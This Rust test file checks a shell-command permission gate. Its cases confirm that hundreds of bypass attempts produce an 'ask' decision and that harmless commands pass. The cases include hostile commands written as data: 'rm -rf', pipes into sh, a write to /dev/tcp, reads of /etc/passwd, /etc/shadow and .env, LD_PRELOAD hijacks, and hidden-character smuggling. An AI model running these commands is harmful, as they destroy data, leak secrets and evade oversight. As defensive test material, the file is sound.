//! The gate against commands that try to slip past an allow, and for those that should not be bothered about.

use super::tests::{bash, decision};
use super::*;
use proptest::prelude::*;
use rstest::rstest;

/// Allows `ls` and nothing else.
const LS_ONLY: &str = r#"
version = 1
extends = "nothing"
[[commands]]
program = "ls"
flags = ["-l", "-a", "--sort="]
operands = "workspace-paths"
"#;

#[rstest]
#[case::list_and("ls && rm -rf x")]
#[case::list_or("ls || rm x")]
#[case::list_semicolon("ls; rm x")]
#[case::new_line("ls\nrm x")]
#[case::pipe("ls | sh")]
#[case::pipe_both("ls |& sh")]
#[case::background("ls &")]
#[case::background_then("ls & rm x")]
#[case::subshell("(ls; rm x)")]
#[case::group("{ ls; rm x; }")]
#[case::negated("! rm x")]
#[case::timed("time rm x")]
#[case::substitution("ls $(rm x)")]
#[case::substitution_in_quotes("ls \"$(rm x)\"")]
#[case::substitution_after_text("ls \"a$(rm x)\"")]
#[case::backticks("ls `rm x`")]
#[case::backticks_in_quotes("ls \"`rm x`\"")]
#[case::nested("ls \"$(ls \"$(rm x)\")\"")]
#[case::arithmetic("ls $((a[$(rm x)]))")]
#[case::old_arithmetic("ls $[1+1]")]
#[case::arithmetic_command("((a[$(rm x)]))")]
#[case::process_substitution("ls <(rm x)")]
#[case::process_substitution_out("ls >(rm x)")]
#[case::parameter_default("ls ${X:-$(rm x)}")]
#[case::parameter_prompt("ls ${X@P}")]
#[case::variable("ls $X")]
#[case::variable_in_quotes("ls \"$X\"")]
#[case::variable_program("$X")]
#[case::ifs("ls${IFS}-l")]
#[case::assignment("X=1 ls")]
#[case::assignment_path("PATH=. ls")]
#[case::assignment_preload("LD_PRELOAD=./x.so ls")]
#[case::assignment_alone("PATH=/tmp")]
#[case::assignment_substitution("X=$(rm x)")]
#[case::assignment_array("X=(a b) ls")]
#[case::assignment_append("LANG+=x ls")]
#[case::env("env ls")]
#[case::env_assignment("env X=1 ls")]
#[case::env_split("env -S 'rm x'")]
#[case::xargs("ls | xargs rm")]
#[case::bash_c("bash -c ls")]
#[case::sh_c("sh -c 'rm x'")]
#[case::eval("eval ls")]
#[case::exec("exec ls")]
#[case::command("command rm x")]
#[case::builtin("builtin eval x")]
#[case::dot(". ./x")]
#[case::source("source ./x")]
#[case::sudo("sudo ls")]
#[case::timeout("timeout 5 rm x")]
#[case::nohup("nohup ls")]
#[case::nice("nice rm x")]
#[case::find_exec("find . -exec rm {} ;")]
#[case::find_exec_escaped("find . -exec rm {} \\;")]
#[case::find_delete("find . -delete")]
#[case::find_after_hyphens("find -- . -delete")]
#[case::find_joined("find . -Lexec rm {} +")]
#[case::flag_with_exit_status("ls -l$?")]
#[case::find_fprint("find . -fprint x")]
#[case::git_config("git -c core.pager=x status")]
#[case::git_directory("git -C /tmp status")]
#[case::git_output("git diff --output=x")]
#[case::git_push("git push")]
#[case::rg_pre("rg --pre sh x")]
#[case::rg_pre_value("rg --pre=sh x")]
#[case::sed_in_place("sed -i s/a/b/ x")]
#[case::sed_execute("sed '1e rm x' y")]
#[case::sed_write("sed -n 'w x' y")]
#[case::awk("awk 'BEGIN{system(\"rm x\")}'")]
#[case::tar("tar xf x --to-command=sh")]
#[case::sort_output("sort -o x y")]
#[case::sort_joined("sort -uo x y")]
#[case::sort_program("sort --compress-program=sh x")]
#[case::uniq_output("uniq a b")]
#[case::tee("ls | tee x")]
#[case::alias("alias ls=rm; ls x")]
#[case::function("ls() { rm x; }; ls")]
#[case::function_keyword("function ls { rm x; }\nls")]
#[case::coprocess("coproc ls")]
#[case::trap("trap 'rm x' EXIT; ls")]
#[case::history("!!")]
#[case::history_word("ls !rm")]
#[case::extended_test("[[ a -eq 'x[$(rm y)]' ]]")]
#[case::test_variable("test -v 'x[$(rm y)]'")]
#[case::printf_variable("printf -v 'x[$(rm y)]' a")]
#[case::for_path("for PATH in /tmp; do ls; done")]
#[case::for_nothing("for x; do ls; done")]
#[case::descriptor_variable("ls {PATH}>/dev/null")]
#[case::bash("ls | bash")]
#[case::python("ls | python3")]
#[case::for_loop("for i in a; do rm x; done")]
#[case::for_words("for i in $(rm x); do ls; done")]
#[case::for_arithmetic("for ((i=0;i<1;i++)); do ls; done")]
#[case::while_loop("while ls; do rm x; done")]
#[case::until_loop("until rm x; do ls; done")]
#[case::if_condition("if rm x; then ls; fi")]
#[case::if_else("if ls; then ls; else rm x; fi")]
#[case::elif("if ls; then ls; elif rm x; then ls; fi")]
#[case::case_body("case a in a) rm x;; esac")]
#[case::case_word("case $(rm x) in a) ls;; esac")]
#[case::select("select i in a; do rm x; done")]
#[case::write("ls > x")]
#[case::append("ls >> x")]
#[case::clobber("ls >| x")]
#[case::write_both("ls &> x")]
#[case::write_errors("ls 2> x")]
#[case::read_write("ls <> x")]
#[case::duplicate_to_file("ls >& x")]
#[case::group_write("{ ls; } > x")]
#[case::loop_write("while ls; do ls; done > x")]
#[case::network_device("ls > /dev/tcp/1.2.3.4/80")]
#[case::read_outside("ls < /etc/passwd")]
#[case::here_document("ls <<EOF\n$(rm x)\nEOF")]
#[case::here_document_then("ls <<'EOF'\nx\nEOF\nrm x")]
#[case::here_documents("ls <<'A' <<'B'\nA\nrm x\nB\nB")]
#[case::here_document_odd_end("ls <<'E F'\nx\nE F\nrm x")]
#[case::here_string("ls <<< $(rm x)")]
#[case::glob_program("l?")]
#[case::glob_program_path("/bin/l*")]
#[case::glob_flag("ls -*")]
#[case::glob_bare("ls *")]
#[case::glob_up("ls .*/x")]
#[case::tilde("ls ~")]
#[case::tilde_program("~/ls")]
#[case::tilde_user("ls ~root")]
#[case::braces_program("{ls,-l}")]
#[case::braces_flag("ls {-l,--foo}")]
#[case::by_path("./ls")]
#[case::by_absolute_path("/tmp/ls")]
#[case::by_real_path("/bin/ls")]
#[case::unlisted_flag("ls -R")]
#[case::unlisted_letter("ls -lR")]
#[case::unlisted_long("ls --color")]
#[case::abbreviated("ls --sor=size")]
#[case::value_for_switch("ls -l=x")]
#[case::missing_value("ls --sort")]
#[case::quoted_flag("ls '-R'")]
#[case::escaped_flag("ls \\-R")]
#[case::flag_after_operand("ls src -R")]
#[case::outside("ls /etc")]
#[case::above("ls ..")]
#[case::above_deep("ls src/../../etc")]
#[case::after_hyphens("ls -- /etc")]
#[case::protected(r"ls .git/hooks")]
#[case::quoted_program_lie("\"ls -l\"")]
#[case::ansi_quoted("$'\\x72m' x")]
#[case::ansi_newline("ls$'\\n'rm")]
#[case::translated("$\"ls\"")]
#[case::nul("ls \0rm")]
#[case::carriage_return("ls\r\nrm x")]
#[case::carriage_return_only("ls\r")]
#[case::escape_sequence("ls \u{1b}[2K")]
#[case::bidi("ls \u{202e}x")]
#[case::zero_width("l\u{200b}s")]
#[case::no_break_space("ls\u{a0}-l")]
#[case::homoglyph("\u{217c}s")]
#[case::comment_continued("ls # \\\nrm x")]
#[case::comment_in_substitution("ls \"$(ls # )\n rm x)\"")]
#[case::comment_after_join("ls \\\n# c\nrm x")]
#[case::joined_operator("ls &\\\n& rm x")]
#[case::joined_program("r\\\nm x")]
#[case::unbalanced("ls 'x")]
#[case::unbalanced_parenthesis("ls (")]
#[case::dangling("ls &&")]
#[case::empty("")]
#[case::blank(" \n ")]
#[case::comment_alone("# ls")]
#[case::cd_home("cd; ls")]
#[case::cd_previous("cd -; ls")]
#[case::cd_in_loop("while ls; do cd ..; done")]
#[case::deep_brackets("((((((((((((((((((((((((((((ls))))))))))))))))))))))))))))")]
fn what_is_not_listed_is_never_allowed(#[case] command: &str) {
    let ls_only = Policy::parse(LS_ONLY).unwrap();
    for (name, policy) in [("ls only", &ls_only), ("careful", &Policy::default())] {
        // Programs and flags that the built-in policy lists on purpose.
        let listed = ["ls -R", "ls -lR", "ls --color", "ls '-R'", "ls \\-R", "ls src -R"].contains(&command);
        if name == "careful" && listed {
            continue;
        }
        let verdict = policy.judge(&bash(command), &[], Timestamp::from_millis(0));
        assert_eq!(verdict.decision, Decision::Ask, "{name}: {command:?}: {verdict:?}");
        assert!(!verdict.reason.is_empty());
        assert!(shell::hidden_characters(&verdict.reason).is_empty(), "{:?}", verdict.reason);
    }
}

#[rstest]
#[case("ls")]
#[case("ls -la")]
#[case("ls -l src -a")]
#[case("ls -- -odd-name")]
#[case("'ls' \"-l\" s\\rc")]
#[case("ls --sort=size --sort time")]
#[case("ls && ls | ls; ls || ls")]
#[case("(ls; { ls; })")]
#[case("! ls")]
#[case("ls 2>/dev/null >/dev/null 2>&1 &>/dev/null")]
#[case("ls < src/x")]
#[case("ls <<'EOF'\n$(not run) `at all` # x\nEOF\n")]
#[case("ls <<< text")]
#[case("if ls; then ls -l; elif ls; then ls; else ls; fi")]
#[case("while ls; do ls; done")]
#[case("case a in a|b) ls;; *c) ls;; esac")]
#[case("ls # what is here?\nls -l")]
#[case("# first\nls \\\n  -l")]
#[case("ls src/*.rs")]
#[case("ls /workspace/src ./a/../b")]
fn what_is_listed_is_allowed(#[case] command: &str) {
    let verdict = Policy::parse(LS_ONLY).unwrap().judge(&bash(command), &[], Timestamp::from_millis(0));
    assert_eq!(verdict.decision, Decision::Allow, "{command}: {verdict:?}");
}

#[rstest]
#[case("git status --short")]
#[case("git --no-pager log --oneline -5 main..feature -- src")]
#[case("git diff HEAD~3 --stat")]
#[case("git show HEAD:src/main.rs | head -n 20")]
#[case("git branch --show-current")]
#[case("cat src/main.rs | grep -n 'fn main' | wc -l")]
#[case("rg -n \"TODO|FIXME\" src -g '*.rs'")]
#[case("rg --files src | head -50")]
#[case("grep -rn --include='*.toml' version .")]
#[case("find . -name '*.rs' -not -path './target/*' -type f")]
#[case("sed -n '10,40p' src/lib.rs")]
#[case("cd src && ls -la && cat lib.rs")]
#[case("cargo --version; node --version 2>&1")]
#[case("echo \"on $(git branch --show-current)\"")]
#[case("test -f x && echo yes || echo no")]
#[case("ls missing; echo \"status $?\"")]
#[case("NO_COLOR=1 ls")]
#[case("command -v cargo")]
#[case("sort -t , -k2 data.csv | uniq -c | sort -rn | head -5")]
#[case("jq -r '.name' package.json")]
#[case("date -u +%F")]
fn harmless_commands_run_under_the_built_in_policy(#[case] command: &str) {
    let verdict = Policy::default().judge(&bash(command), &[], Timestamp::from_millis(0));
    assert_eq!(verdict.decision, Decision::Allow, "{command}: {verdict:?}");
}

#[rstest]
#[case("cargo test")]
#[case("npm test")]
#[case("make")]
#[case("python3 x.py")]
#[case("git commit -m x")]
#[case("git show HEAD:.env")]
#[case("git diff /etc/passwd /etc/shadow")]
#[case("cat .env")]
#[case("cat ../x")]
#[case("cat certs/*")]
#[case("cd .. && cat x")]
#[case("cd /workspace && cat ../x")]
#[case("cd .github && cat ../../x")]
#[case("curl https://example.com")]
#[case("grep -f /etc/passwd x")]
#[case("echo x > y")]
fn other_commands_are_asked_under_the_built_in_policy(#[case] command: &str) {
    let verdict = Policy::default().judge(&bash(command), &[], Timestamp::from_millis(0));
    assert_eq!(verdict.decision, Decision::Ask, "{command}: {verdict:?}");
}

const PARTS: &[&str] =
    &["rm x", "sh", "$X", "ls > x", "ls -R", "X=1 ls", "./ls", "ls $(rm)", "eval ls", "ls /etc", "rm&", "{ rm; }"];

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn one_part_that_is_not_allowed_spoils_the_whole(
        before in 0_usize..4, after in 0_usize..4, part in prop::sample::select(PARTS),
        joints in prop::collection::vec(prop::sample::select(vec!["&&", "||", ";", "|", "\n", "|&", "&"]), 8),
        wrap in prop::sample::select(vec![("", ""), ("(", ")"), ("{ ", "; }"), ("if ls; then ", "; fi"), ("! ", ""), ("for i in a; do ", "; done")]),
    ) {
        let mut parts = vec!["ls -l"; before];
        let wrapped = format!("{}{part}{}", wrap.0, if part.ends_with('&') { wrap.1.trim_start_matches(';') } else { wrap.1 });
        parts.push(&wrapped);
        parts.extend(vec!["ls"; after]);
        let mut command = String::new();
        for (index, part) in parts.iter().enumerate() {
            if index > 0 { command.push_str(joints[index]); }
            command.push_str(part);
        }
        let policy = Policy::parse(LS_ONLY).unwrap();
        prop_assert_ne!(decision(&policy, &bash(&command)), Decision::Allow, "{}", command);
    }

    #[test]
    fn no_text_breaks_the_judge(command in "\\PC{0,40}|[ls rm$(){}'\"\\\\`;&|<>#\\n~*?!-]{0,40}") {
        let verdict = Policy::default().judge(&bash(&command), &[], Timestamp::from_millis(0));
        prop_assert!(!verdict.reason.is_empty());
        shell::explain(&command);
    }
}
